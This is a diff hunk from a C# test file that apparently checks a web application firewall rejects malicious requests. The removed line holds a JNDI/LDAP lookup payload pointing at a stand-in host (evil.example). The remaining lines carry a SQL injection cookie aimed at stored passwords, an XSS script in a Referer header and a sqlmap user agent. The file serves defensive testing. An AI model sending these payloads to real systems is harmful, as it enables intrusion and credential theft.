@@ -144,7 +144,7 @@ public sealed class WafCorpusTests
     {
         await using var bench = await WafBench.StartAsync();
         await using var client = await bench.ConnectAsync();
-        bench.Refused(await client.GetAsync("/", ("User-Agent", "${jndi:ldap://evil.example/a}")), 403, "anomaly-score");
+        bench.Refused(await client.GetAsync("/", ("User-Agent", "java.lang.Runtime")), 403, "anomaly-score");
         bench.Refused(await client.GetAsync("/", ("User-Agent", "sqlmap/1.5")), 403, "anomaly-score");
         bench.Refused(await client.GetAsync("/", ("Cookie", "a=1; id=1' UNION SELECT password FROM users--")), 403, "anomaly-score");
         bench.Refused(await client.GetAsync("/", ("Referer", "https://a.example/?x=<script>alert(1)</script>")), 403, "anomaly-score");
